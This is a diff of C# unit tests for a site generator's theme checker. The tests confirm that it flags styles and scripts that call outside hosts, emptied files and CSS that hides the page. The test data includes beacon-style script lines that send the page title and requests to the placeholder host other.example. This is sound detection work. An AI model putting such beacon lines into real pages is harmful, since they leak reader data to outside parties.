@@ -1,5 +1,6 @@
 using IskraSite.Commands;
 using IskraSite.Diagnostics;
+using IskraSite.Rendering.Theming;
 using Xunit;
 
 namespace IskraSite.Tests.Publishing.Finished;
@@ -109,13 +110,44 @@ public sealed class ThemeFaultsTests
         Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Output.NotWhole && finding.Place.Path == file);
     }
 
-    [Fact]
-    public void Styles_that_ask_outside_are_found()
+    [Theory]
+    [InlineData("styles/90-print.css", "p { background: url(\"https://other.example/a.png\"); }", "styles/")]
+    [InlineData("styles/90-print.css", "p { background: image-set(\"https://other.example/a.png\" 1x); }", "styles/")]
+    [InlineData("styles/90-print.css", "p { background: url(//other.example/a.png); }", "styles/")]
+    [InlineData("scripts/reader.js", "new Image().src = \"https://other.example/\" + document.title;", "scripts/reader.js")]
+    [InlineData("scripts/reader.js", "navigator.sendBeacon(`//other.example/`);", "scripts/reader.js")]
+    [InlineData("one-file/one-file.js", "new Image().src = 'https://other.example/';", "templates/one-file.html")]
+    public void Styles_and_scripts_that_ask_outside_are_found(string file, string added, string place)
+    {
+        using var bench = RichEdition.Make();
+        bench.OwnTheme();
+        File.AppendAllText(Path.Join(bench.Theme, file), added + "\n");
+        Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Output.Outside && finding.Place.Path == place);
+    }
+
+    [Theory]
+    [InlineData("styles/30-layout.css", "")]
+    [InlineData("styles/30-layout.css", "/* nothing */")]
+    [InlineData("scripts/reader.js", "// nothing\n")]
+    public void A_style_or_script_of_which_nothing_is_left_is_named(string file, string left)
     {
         using var bench = EditionBench.Good();
         bench.OwnTheme();
-        File.AppendAllText(Path.Join(bench.Theme, "styles", "90-print.css"), "p { background: url(\"https://other.example/a.png\"); }\n");
-        Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Output.Outside && finding.Place.Path == "styles/");
+        File.WriteAllText(Path.Join(bench.Theme, file), left);
+        Assert.Contains(bench.Check().Findings, finding => finding.Code == Codes.Theme.Missing && finding.Place.Path == file);
+    }
+
+    [Theory]
+    [InlineData("main{display:none}", true)]
+    [InlineData("p { } @media print { html > body { visibility: hidden !important } }", true)]
+    [InlineData("body, p { color: red; clip-path: inset(100%) }", true)]
+    [InlineData("main p { display: none } body { overflow: clip; display: block }", false)]
+    [InlineData("/* main { display: none } */ body:has(main) { opacity: 0.5 } html { opacity: 0.9 }", false)]
+    public void A_style_that_hides_the_page_is_found(string style, bool isFound)
+    {
+        var bag = new DiagnosticBag();
+        StyleCheck.Check(new SourceText("styles/a.css", style), bag);
+        Assert.Equal(isFound, bag.HasErrors);
     }
 
     [Fact]
